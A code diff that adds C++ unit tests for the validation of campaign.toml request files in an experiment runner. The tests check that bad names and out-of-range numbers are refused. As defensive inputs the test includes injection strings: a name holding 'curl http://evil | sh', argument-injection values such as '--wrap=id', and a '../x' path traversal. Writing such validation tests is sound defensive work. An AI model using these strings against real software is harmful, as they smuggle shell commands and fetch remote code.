@@ -8,16 +8,20 @@
 #include <cstdint>
 #include <set>
 #include <string>
+#include <utility>
 #include <vector>
 
 #include "common/files/experiment_error.hpp"
 #include "common/math/random.hpp"
+#include "runner/campaign/campaign_plan.hpp"
 #include "runner/command_line/exit_code.hpp"
 
 namespace lab::runner::campaign::campaign_test {
 namespace {
 
+using testing::AllOf;
 using testing::ElementsAre;
+using testing::HasSubstr;
 
 const CodeVersion kCode{"0.1.0 (abc)", 5};
 
@@ -89,6 +93,73 @@ TEST(CampaignRequest, IsRefusedWhenItsFileIsDamaged) {
                ExperimentError);
   EXPECT_THROW(static_cast<void>(readRequest("fileversion = 2\n", "campaign.toml")),
                ExperimentError);
+}
+
+/// Why a campaign.toml with another value of a key is refused; empty: it is read.
+std::string refusalWith(const std::string& key, const std::string& value) {
+  Request request = sampleRequest();
+  request.live = LivePlan{};
+  request.adaptive = AdaptivePlan{.goal = AdaptiveGoal::kLaw};
+  std::string text = requestText(request, "2026-01-31T12:00:00Z");
+  const std::size_t begin = text.find("\n" + key + " = ") + 1;
+  text.replace(begin, text.find('\n', begin) - begin, key + " = " + value);
+  try {
+    static_cast<void>(readRequest(text, "campaign.toml"));
+  } catch (const ExperimentError& error) {
+    return error.what();
+  }
+  return {};
+}
+
+TEST(CampaignRequest, HasTheNameOfAnExperiment) {
+  EXPECT_EQ(refusalWith("name", "\"scan-2.b_1\""), "");
+  for (const std::string& name :
+       {std::string(R"("x\ncurl http://evil | sh")"), std::string(R"("x --wrap=id")"),
+        std::string(R"("../x")"), std::string(R"("")"), '"' + std::string(65, 'x') + '"'}) {
+    EXPECT_THAT(refusalWith("name", name),
+                AllOf(HasSubstr("campaign.toml: name: found "),
+                      HasSubstr("expected 1 to 64 letters, digits, dots, _ and -")));
+  }
+}
+
+TEST(CampaignRequest, HasNumbersThatTheCommandLineAccepts) {
+  EXPECT_EQ(refusalWith("seeds", "100000"), "");
+  EXPECT_EQ(refusalWith("random", "100000"), "");
+  const std::vector<std::pair<std::string, std::string>> refused{
+      {"seeds", "100000000"},
+      {"seeds", "0"},
+      {"random", "100001"},
+      {"rest_s", "inf"},
+      {"rest_s", "-1.0"},
+      {"tries", "101"},
+      {"strikes", "0"},
+      {"until_us", "9223372036854775807"},
+      {"runs_per_round", "1001"},
+      {"robot_time_s", "nan"},
+      {"level", "inf"},
+      {"error", "-1.0"},
+      {"between_runs_s", "1e300"},
+      {"clear", "\"--with=program.py\""}};
+  for (const auto& [key, value] : refused) {
+    EXPECT_THAT(refusalWith(key, value), HasSubstr("campaign.toml: " + key + ": found ")) << value;
+  }
+}
+
+TEST(CampaignRows, AreAtMostAMillion) {
+  Request request;
+  request.seeds = 10;
+  EXPECT_NO_THROW(requireFewRows(request, 100'000, "scan.toml"));
+
+  request.file = "scan.toml";
+  request.over = {"duration_s=1:2:100000"};
+  request.seeds = 11;
+  try {
+    static_cast<void>(planCampaign(request, ""));
+    ADD_FAILURE() << "1.1 million runs";
+  } catch (const UserError& error) {
+    EXPECT_THAT(error.what(), HasSubstr("scan.toml: found 100000 points with 11 seeds each, "
+                                        "allowed 1000000 runs"));
+  }
 }
 
 TEST(CampaignRows, BeginWithTheFirstRunOfEveryPoint) {
